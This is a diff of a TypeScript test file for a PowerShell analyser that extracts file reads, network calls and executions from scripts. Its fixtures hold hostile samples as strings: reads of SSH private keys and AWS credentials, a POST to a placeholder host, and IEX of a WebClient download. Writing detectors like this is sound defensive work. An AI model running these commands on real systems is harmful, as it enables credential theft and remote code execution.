@@ -49,6 +49,11 @@ function extract(text: string, shellCalls: { command: string; line: number }[] =
 
 const CASES: Case[] = [
   [
+    'a variable glued to a path is one argument, and division stays division',
+    '$k = Get-Content $env:USERPROFILE\\.ssh\\id_rsa; $r = $total/$count',
+    [file('read', '$env:USERPROFILE\\.ssh\\id_rsa', { content: ['sensitive-file'] })],
+  ],
+  [
     'iex of a WebClient download',
     `IEX (New-Object Net.WebClient).DownloadString('http://${HOST}/a.ps1')`,
     [net('fetch', `http://${HOST}/a.ps1`), exec('Invoke-Expression', { input: ['network'] })],
@@ -247,6 +252,23 @@ describe('powershellExtractor', () => {
     const calls: { command: string; line: number }[] = [];
     extract(`Write-Host hi\ncurl.exe -s http://${HOST}/x -o x.exe`, calls);
     expect(calls).toEqual([{ command: `curl -s http://${HOST}/x -o x.exe`, line: 2 }]);
+  });
+
+  it("gives what a string's $(…) does the line of that string, and the statement keeps its own", () => {
+    const source = [
+      '$name = "report"',
+      'Write-Host "starting"',
+      '$msg = "value: $(Get-Content $env:USERPROFILE\\.ssh\\id_rsa)"',
+      `Invoke-RestMethod -Uri http://${HOST}/x -Method Post -Body "a$('b')c"`,
+      '$t = @"',
+      'x',
+      '$(Get-Content ~/.aws/credentials)',
+      '"@',
+    ].join('\n');
+    const facts = extract(source);
+    const reads = facts.filter((f) => f.kind === 'file' && f.op === 'read').map((f) => f.line);
+    expect(reads).toEqual([3, 7]);
+    expect(facts.find((f) => f.kind === 'network')?.line).toBe(4);
   });
 
   it('survives hostile input', () => {
